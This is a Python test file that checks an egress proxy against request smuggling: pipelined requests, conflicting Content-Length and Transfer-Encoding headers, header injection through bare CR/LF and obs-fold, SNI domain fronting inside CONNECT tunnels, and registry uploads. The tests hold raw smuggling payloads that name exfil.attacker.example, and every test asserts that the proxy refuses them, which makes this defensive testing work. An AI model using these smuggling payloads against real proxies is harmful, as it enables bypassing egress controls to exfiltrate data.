"""The egress proxy attacked through what it parses: pipelining, body framing,
odd bytes in the head, and the name inside a CONNECT tunnel.

The first review's residual (SECURITY-REVIEW-2, status row 17): after the first
request head the rest of the stream went to the origin raw, so a pipelined
second request with its own ``Host`` reached the allowed origin unvetted.
Review 2, finding 8: through CONNECT a TLS handshake could name another tenant
of the allowed host's CDN (SNI). Each test sends the attack as raw bytes.
"""

from __future__ import annotations

import asyncio

import pytest

from piwork.proxy.egress import EgressDecision, EgressProxy
from tests.helpers.egress import Origin, Policy, client_hello, connect_via


async def raw_exchange(proxy: EgressProxy, data: bytes, timeout: float = 10) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", proxy.port)
    writer.write(data)
    await writer.drain()
    try:
        return await asyncio.wait_for(reader.read(), timeout)
    finally:
        writer.close()


async def test_a_pipelined_second_request_never_reaches_the_origin(origin: Origin) -> None:
    """Review 1 residual: the second request (another Host, a path of its own) was piped raw."""
    async with EgressProxy(Policy(allowed={"localhost"}), allow_private_networks=True) as proxy:
        answer = await raw_exchange(
            proxy,
            f"GET http://localhost:{origin.http_port}/first HTTP/1.1\r\n\r\n"
            f"GET /second HTTP/1.1\r\nHost: exfil.attacker.example\r\n\r\n"
            f"POST http://localhost:{origin.http_port}/third HTTP/1.1\r\n"
            "Content-Length: 4\r\n\r\nDATA".encode(),
        )
    assert answer.startswith(b"HTTP/1.1 200"), answer[:200]
    assert answer.count(b"HTTP/1.1 ") == 1
    assert [path for _, path, _ in origin.requests] == ["/first"]


@pytest.mark.parametrize("framing", ["length", "chunked"])
async def test_a_body_goes_exactly_as_framed_and_what_follows_it_does_not(
    origin: Origin, framing: str
) -> None:
    smuggled = b"GET /smuggled HTTP/1.1\r\nHost: exfil.attacker.example\r\n\r\n"
    if framing == "length":
        head, body = "Content-Length: 5\r\n", b"hello"
    else:
        head = "Transfer-Encoding: chunked\r\n"
        body = b"2;ext=1\r\nhe\r\n3\r\nllo\r\n0\r\nX-Trailer: t\r\n\r\n"
    async with EgressProxy(Policy(allowed={"localhost"}), allow_private_networks=True) as proxy:
        answer = await raw_exchange(
            proxy,
            f"POST http://localhost:{origin.http_port}/up HTTP/1.1\r\n{head}\r\n".encode()
            + body
            + smuggled,
        )
    assert answer.startswith(b"HTTP/1.1 200"), answer[:200]
    assert answer.endswith(b"got 5 bytes")
    assert [path for _, path, _ in origin.requests] == ["/up"]


BAD_HEADS = [
    ("CL and TE together", "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n"),
    ("two lengths", "Content-Length: 5\r\nContent-Length: 6\r\n"),
    ("a coding but chunked", "Transfer-Encoding: gzip, chunked\r\n"),
    ("a length that is not a number", "Content-Length: +5\r\n"),
    ("a NUL in a name", "X-A\x00b: 1\r\n"),
    ("a space before the colon", "Host : exfil.attacker.example\r\n"),
    ("obs-fold", "X-A: 1\r\n Host: exfil.attacker.example\r\n"),
    ("a bare LF", "X-A: 1\nHost: exfil.attacker.example\r\n"),
    ("a bare CR", "X-A: 1\rHost: exfil.attacker.example\r\n"),
    ("a control byte in a value", "X-A: 1\x01\r\n"),
]


@pytest.mark.parametrize(("what", "header"), BAD_HEADS, ids=[b[0] for b in BAD_HEADS])
async def test_a_head_two_parsers_could_read_differently_is_refused(
    origin: Origin, what: str, header: str
) -> None:
    policy = Policy(allowed={"localhost"})
    async with EgressProxy(policy, allow_private_networks=True) as proxy:
        answer = await raw_exchange(
            proxy,
            f"POST http://localhost:{origin.http_port}/x HTTP/1.1\r\n{header}\r\nhello".encode(
                "latin-1"
            ),
        )
    assert answer.startswith(b"HTTP/1.1 400 "), (what, answer[:200])
    assert origin.requests == [] and policy.asked == []


@pytest.mark.parametrize(
    "request_line",
    [
        "GET  http://localhost/ HTTP/1.1",
        "get http://localhost/ HTTP/1.1",
        "GET http://localhost/\x00 HTTP/1.1",
        "GET http://localhost/ HTTP/2.0",
        "GET http://localhost/ HTTP/1.1 extra",
    ],
)
async def test_an_odd_request_line_is_refused(request_line: str) -> None:
    policy = Policy(allowed={"localhost"})
    async with EgressProxy(policy, allow_private_networks=True) as proxy:
        answer = await raw_exchange(proxy, f"{request_line}\r\n\r\n".encode("latin-1"))
    assert answer.startswith(b"HTTP/1.1 400 "), answer[:200]
    assert policy.asked == []


# --- what a CONNECT tunnel may carry ---------------------------------------------------


@pytest.mark.parametrize("sni", ["exfil.attacker.example", None])
async def test_a_tls_handshake_naming_another_host_never_leaves(
    origin: Origin, sni: str | None
) -> None:
    """Domain fronting through SNI: CONNECT to an allowed host, then a ClientHello
    asking the same server for another tenant (or for no name at all)."""
    decisions: list[EgressDecision] = []
    async with EgressProxy(
        Policy(allowed={"localhost"}), allow_private_networks=True, on_decision=decisions.append
    ) as proxy:
        head, reader, writer = await connect_via(proxy, f"localhost:{origin.echo_port}")
        assert head.startswith(b"HTTP/1.1 200 ")
        writer.write(client_hello(sni) + b"more")
        await writer.drain()
        assert await asyncio.wait_for(reader.read(), 5) == b""  # closed
        writer.close()
    assert bytes(origin.echo_received) == b""
    assert [(d.allowed, d.reason) for d in decisions][-1] == (False, "sni")


async def test_a_handshake_split_across_writes_and_records_is_read_whole(origin: Origin) -> None:
    hello = client_hello("localhost")
    # The same handshake message in two TLS records, sent a few bytes at a time.
    message = hello[5:]
    split = len(message) // 2
    records = b"".join(
        b"\x16\x03\x01" + len(part).to_bytes(2, "big") + part
        for part in (message[:split], message[split:])
    )
    async with EgressProxy(Policy(allowed={"localhost"}), allow_private_networks=True) as proxy:
        _head, reader, writer = await connect_via(proxy, f"localhost:{origin.echo_port}")
        for i in range(0, len(records), 7):
            writer.write(records[i : i + 7])
            await writer.drain()
        echoed = await asyncio.wait_for(reader.readexactly(len(records)), 5)
        writer.close()
    assert echoed == records.upper()


async def test_plain_http_in_a_tunnel_must_name_the_tunnels_host(origin: Origin) -> None:
    """undici tunnels ``http://`` through CONNECT; the request inside is parsed like
    any other: its Host is the tunnel's, one request, nothing pipelined after it."""
    async with EgressProxy(Policy(allowed={"localhost"}), allow_private_networks=True) as proxy:
        _head, reader, writer = await connect_via(proxy, f"localhost:{origin.http_port}")
        writer.write(
            f"GET /inside HTTP/1.1\r\nHost: localhost:{origin.http_port}\r\n\r\n"
            "GET /pipelined HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
        )
        answer = await asyncio.wait_for(reader.read(), 5)
        writer.close()
        assert answer.startswith(b"HTTP/1.1 200"), answer[:200]
        _head, reader, writer = await connect_via(proxy, f"localhost:{origin.http_port}")
        writer.write(b"GET /fronted HTTP/1.1\r\nHost: exfil.attacker.example\r\n\r\n")
        refused = await asyncio.wait_for(reader.read(), 5)
        writer.close()
    assert refused.startswith(b"HTTP/1.1 400 "), refused[:200]
    assert b"Host must be localhost" in refused
    assert [path for _, path, _ in origin.requests] == ["/inside"]


async def test_bytes_that_are_neither_tls_nor_http_close_the_tunnel(origin: Origin) -> None:
    async with EgressProxy(Policy(allowed={"localhost"}), allow_private_networks=True) as proxy:
        _head, reader, writer = await connect_via(proxy, f"localhost:{origin.echo_port}")
        writer.write(b"SSH-2.0-OpenSSH_9.2\r\n\r\n")
        answer = await asyncio.wait_for(reader.read(), 5)
        writer.close()
    assert answer.startswith(b"HTTP/1.1 400 ")
    assert bytes(origin.echo_received) == b""


@pytest.mark.parametrize(
    "request_text",
    [
        "PUT http://deb.debian.org/debian/pool/x.deb HTTP/1.1\r\nContent-Length: 4\r\n\r\nDATA",
        "POST http://deb.debian.org/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "GET http://deb.debian.org/ HTTP/1.1\r\nContent-Length: 4\r\n\r\nDATA",
        "DELETE http://registry.npmjs.org/some-package/-rev/1 HTTP/1.1\r\n\r\n",
    ],
)
async def test_a_package_registry_takes_downloads_only(request_text: str) -> None:
    """Review 2, finding 8: "Allow the package registries" must not allow uploading to
    them (``npm publish`` is a PUT). Refused before anything is connected or resolved."""
    policy = Policy(allowed={"deb.debian.org", "registry.npmjs.org"})
    decisions: list[EgressDecision] = []
    async with EgressProxy(policy, on_decision=decisions.append) as proxy:
        answer = await raw_exchange(proxy, request_text.encode())
    assert answer.startswith(b"HTTP/1.1 403 Forbidden by piwork: "), answer[:200]
    assert b"allows downloads only" in answer and b"publishing and uploads" in answer
    assert policy.asked == []
    assert [(d.allowed, d.detail) for d in decisions] == [(False, "downloads only")]


async def test_tls_to_a_registry_ends_on_the_host_and_only_downloads_go_on() -> None:
    """With the run's CA (the guest trusts it), the proxy reads a registry's requests
    inside TLS: a GET goes on over the proxy's own verified TLS, a PUT (``npm publish``)
    is refused with the reason and the registry sees nothing of it."""
    import ssl

    import aiohttp
    from aiohttp import web

    from piwork.proxy.registry_tls import RunCA

    seen: list[tuple[str, str, str]] = []

    async def registry(request: web.Request) -> web.Response:
        seen.append((request.method, request.path, request.host))
        return web.Response(text="a tarball")

    real_ca, run_ca = RunCA(), RunCA()  # the registry's own CA; the run's
    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", registry)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.5)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0, ssl_context=real_ca.server_context("localhost"))
    await site.start()
    port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
    trust_real = ssl.create_default_context(cadata=real_ca.pem)
    guest_trust = ssl.create_default_context(cadata=run_ca.pem)
    try:
        async with (
            EgressProxy(
                Policy(allowed={"localhost"}),
                allow_private_networks=True,
                download_only=frozenset({"localhost"}),
                registry_ca=run_ca,
                registry_trust=trust_real,
            ) as proxy,
            aiohttp.ClientSession() as client,
        ):
            url = f"https://localhost:{port}/pkg/-/pkg-1.0.0.tgz"
            async with client.get(url, proxy=proxy.url, ssl=guest_trust) as resp:
                assert resp.status == 200 and await resp.text() == "a tarball"
            async with client.put(
                f"https://localhost:{port}/pkg", data=b"{}", proxy=proxy.url, ssl=guest_trust
            ) as resp:
                assert resp.status == 403
                assert "publishing and uploads are refused" in await resp.text()
            # The run's CA is not the registry's: without it the guest trusts nothing here.
            with pytest.raises(aiohttp.ClientConnectorCertificateError):
                await client.get(url, proxy=proxy.url, ssl=ssl.create_default_context())
    finally:
        await runner.cleanup()
        real_ca.close()
        run_ca.close()
    assert seen == [("GET", "/pkg/-/pkg-1.0.0.tgz", f"localhost:{port}")]
